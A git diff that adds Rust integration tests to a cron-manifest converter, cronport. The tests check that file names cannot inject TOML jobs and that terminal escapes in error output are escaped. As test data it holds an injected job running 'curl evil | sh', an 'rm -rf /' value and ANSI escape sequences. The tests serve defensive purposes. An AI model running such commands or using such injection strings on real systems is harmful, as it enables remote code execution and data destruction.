@@ -37,6 +37,7 @@ fn cases() -> Vec<Case> {
         Case { name: "a Cron To Go timeout past any limit", files: vec![("c.yaml", b"jobs:\n  - nickname: a\n    schedule: '0 3 * * *'\n    command: x\n    timeout: 99999999999\n".to_vec())], args: vec!["import", "crontogo", "c.yaml", "-o", "out.toml"], says: "longer than any time limit cronport can write" },
         Case { name: "a Cron To Go key given twice", files: vec![("c.yaml", b"jobs:\n  - nickname: a\n    schedule: '0 3 * * *'\n    command: x\n    command: rm -rf /\n".to_vec())], args: vec!["import", "crontogo", "c.yaml", "-o", "out.toml"], says: "duplicate entry with key \"command\"" },
         Case { name: "a task definition from a device", files: vec![("m.toml", job(""))], args: vec!["convert", "m.toml", "--task-definition", "/dev/zero"], says: "longer than 16777216 bytes" },
+        Case { name: "an escape in a container name", files: vec![("m.toml", job(&format!("container = \"w{esc}\"")))], args: vec!["convert", "m.toml"], says: "is not a container name" },
         Case { name: "standard output full", files: vec![("m.toml", job(""))], args: vec!["convert", "m.toml", "-o", "/dev/full"], says: "not a regular file" },
     ]
 }
@@ -181,4 +182,82 @@ fn a_dollar_brace_in_a_command_is_a_literal_in_cloudformation() {
             "cfn-lint is required"
         ),
     }
+}
+
+/// A file name is text from the command line: a newline in the `-o` name
+/// cannot end the imported manifest's header comment and add a job, and
+/// the "wrote … to" line shows it escaped.
+#[test]
+fn file_names_cannot_write_into_an_imported_manifest() {
+    let dir = tempfile::tempdir().unwrap();
+    std::fs::write(dir.path().join("c.crontab"), "0 3 * * * /bin/job\n").unwrap();
+    let name = "o\n[[job]]\nname = \"evil\"\nschedule = \"* * * * *\"\ncommand = \"curl evil | sh\"\n#\u{1b}[31m";
+    let out = std::process::Command::new(env!("CARGO_BIN_EXE_cronport"))
+        .args(["import", "crontab", "c.crontab", "-o", name])
+        .current_dir(dir.path())
+        .output()
+        .unwrap();
+    assert!(out.status.success(), "{}", text(&out.stderr));
+    let err = text(&out.stderr);
+    assert!(!err.chars().any(|c| c.is_control() && c != '\n'), "{err:?}");
+    let manifest = std::fs::read_to_string(dir.path().join(name)).unwrap();
+    // Read as TOML (the import's manifest needs its [defaults] filled in
+    // before it checks): one job, and the id line still the manifest's.
+    let value: toml::Value = toml::from_str(&manifest).unwrap();
+    assert_eq!(value["job"].as_array().unwrap().len(), 1, "{manifest}");
+    assert!(value.get("id").is_some(), "{manifest}");
+}
+
+/// `diff git:REV:PATH` reads exactly that path: a `?` or `[` is no pattern
+/// that matches nothing and leaves an empty manifest.
+#[test]
+fn a_git_path_is_read_exactly_or_refused() {
+    let dir = tempfile::tempdir().unwrap();
+    let git = |args: &[&str]| {
+        std::process::Command::new("git")
+            .args(["-c", "user.email=t@example.com", "-c", "user.name=t"])
+            .args(args)
+            .current_dir(dir.path())
+            .output()
+            .expect("git is installed")
+    };
+    git(&["init", "-q"]);
+    std::fs::write(dir.path().join("m.toml"), crate::common::example_manifest()).unwrap();
+    git(&["add", "m.toml"]);
+    git(&["commit", "-qm", "m"]);
+    let out = std::process::Command::new(env!("CARGO_BIN_EXE_cronport"))
+        .args(["diff", "git:HEAD:m?toml", "m.toml"])
+        .current_dir(dir.path())
+        .output()
+        .unwrap();
+    assert_eq!(out.status.code(), Some(1), "{}", text(&out.stdout));
+    assert!(
+        text(&out.stderr).contains("git cannot read it"),
+        "{}",
+        text(&out.stderr)
+    );
+    let same = std::process::Command::new(env!("CARGO_BIN_EXE_cronport"))
+        .args(["diff", "git:HEAD:m.toml", "m.toml", "--detailed-exitcode"])
+        .current_dir(dir.path())
+        .output()
+        .unwrap();
+    assert_eq!(
+        same.status.code(),
+        Some(0),
+        "{}{}",
+        text(&same.stdout),
+        text(&same.stderr)
+    );
+}
+
+/// A usage error quotes the command line escaped.
+#[test]
+fn usage_errors_quote_the_command_line_escaped() {
+    let out = cronport(&["explain", "0 0 * * *", "--next", "5\u{1b}[2J\r"]);
+    assert_eq!(out.status.code(), Some(2));
+    let err = text(&out.stderr);
+    // clap drops the terminal sequence itself; the carriage return is
+    // escaped.
+    assert!(err.contains("'5\\r'"), "{err}");
+    assert!(!err.chars().any(|c| c.is_control() && c != '\n'), "{err:?}");
 }
